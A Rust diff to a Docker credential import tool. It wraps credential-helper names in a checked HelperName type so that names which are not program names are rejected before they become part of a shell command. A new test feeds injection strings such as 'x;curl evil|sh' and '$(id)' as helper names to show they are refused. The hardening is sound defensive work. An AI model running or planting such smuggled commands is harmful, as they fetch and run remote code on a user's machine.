@@ -9,7 +9,7 @@ use crate::dockerconfig::{
     entry_path, kind, parse_object, read_entry, ConfigError, ConfigWarning, DockerConfig,
     EntryRead, RegistryEntry,
 };
-use crate::helper::valid_helper_name;
+use crate::helper::HelperName;
 use crate::name::SecretName;
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -27,9 +27,10 @@ pub enum ImportStatus {
         suggested_name: SecretName,
         warnings: Vec<ConfigWarning>,
     },
-    /// The file only says which helper holds the credentials.
+    /// The file only says which helper holds the credentials; the name
+    /// passed `valid_helper_name` (a name that does not is an `Invalid` row).
     InHelper {
-        helper: String,
+        helper: HelperName,
     },
     Invalid {
         reason: String,
@@ -47,8 +48,9 @@ impl ImportRow {
 }
 
 /// The shell command that prints what a helper holds for `server`
-/// (`{"ServerURL", "Username", "Secret"}` on stdout).
-pub fn helper_command(helper: &str, server: &str) -> String {
+/// (`{"ServerURL", "Username", "Secret"}` on stdout). Only a checked
+/// [`HelperName`] becomes part of it; the server is quoted.
+pub fn helper_command(helper: &HelperName, server: &str) -> String {
     format!(
         "echo {} | docker-credential-{helper} get",
         shell_quote(server)
@@ -135,15 +137,7 @@ pub fn classify(config_json: &str) -> Result<Vec<ImportRow>, ConfigError> {
                 }
             }
             Ok(EntryRead::NoCredentials) => match helper_for(server) {
-                Some(helper) if valid_helper_name(&helper) => ImportStatus::InHelper { helper },
-                // It would become part of a program name (the CLI runs it,
-                // the console shows the command): refused where it is read.
-                Some(helper) => ImportStatus::Invalid {
-                    reason: format!(
-                        "{}: the credential helper name {helper:?} is not a program name (letters, digits, '-', '_', '.'); fix config.json",
-                        entry_path(server)
-                    ),
-                },
+                Some(helper) => in_helper(&entry_path(server), &helper),
                 None => ImportStatus::Invalid {
                     reason: format!(
                         "{}: has no credentials and no credential helper is configured; run `docker login {server}` again or add \"auth\"",
@@ -164,13 +158,25 @@ pub fn classify(config_json: &str) -> Result<Vec<ImportRow>, ConfigError> {
         if !auths.contains_key(server) {
             rows.push(ImportRow {
                 server: server.clone(),
-                status: ImportStatus::InHelper {
-                    helper: helper.clone(),
-                },
+                status: in_helper(&format!("$.credHelpers[{server:?}]"), helper),
             });
         }
     }
     Ok(rows)
+}
+
+/// The row of a registry whose credentials live in `helper`. A name that is
+/// not a program name would become part of one (the CLI runs it, the console
+/// shows the command), so it is refused here, where config.json is read.
+fn in_helper(path: &str, helper: &str) -> ImportStatus {
+    match HelperName::parse(helper) {
+        Some(helper) => ImportStatus::InHelper { helper },
+        None => ImportStatus::Invalid {
+            reason: format!(
+                "{path}: the credential helper name {helper:?} is not a program name (letters, digits, '-', '_', '.'); fix config.json"
+            ),
+        },
+    }
 }
 
 fn unique(base: SecretName, taken: &mut BTreeSet<String>) -> SecretName {
@@ -193,14 +199,34 @@ mod tests {
 
     #[test]
     fn helper_command_quotes_when_needed() {
+        let name = |n| HelperName::parse(n).unwrap();
         assert_eq!(
-            helper_command("desktop", "https://index.docker.io/v1/"),
+            helper_command(&name("desktop"), "https://index.docker.io/v1/"),
             "echo https://index.docker.io/v1/ | docker-credential-desktop get"
         );
         assert_eq!(
-            helper_command("x", "a b'c"),
+            helper_command(&name("x"), "a b'c"),
             r"echo 'a b'\''c' | docker-credential-x get"
         );
+    }
+
+    #[test]
+    fn a_helper_name_that_is_a_command_is_never_a_helper_row() {
+        for config in [
+            r#"{"auths":{"ghcr.io":{}},"credsStore":"x;curl evil|sh"}"#,
+            r#"{"auths":{"ghcr.io":{}},"credHelpers":{"ghcr.io":"$(id)"}}"#,
+            // A credHelpers entry with no auths entry is a row of its own.
+            r#"{"credHelpers":{"gcr.io":"x;curl evil|sh"}}"#,
+        ] {
+            let rows = classify(config).unwrap();
+            assert_eq!(rows.len(), 1, "{config}");
+            match &rows[0].status {
+                ImportStatus::Invalid { reason } => {
+                    assert!(reason.contains("not a program name"), "{reason}")
+                }
+                other => panic!("{config}: {other:?}"),
+            }
+        }
     }
 
     #[test]
